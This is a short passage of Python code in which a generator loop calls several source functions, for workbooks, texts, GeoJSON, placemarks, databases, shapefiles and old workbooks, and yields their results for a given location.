    for make in (workbooks, texts, geojson, placemarks, databases, shapefiles, old_workbooks):
        yield from make(at)
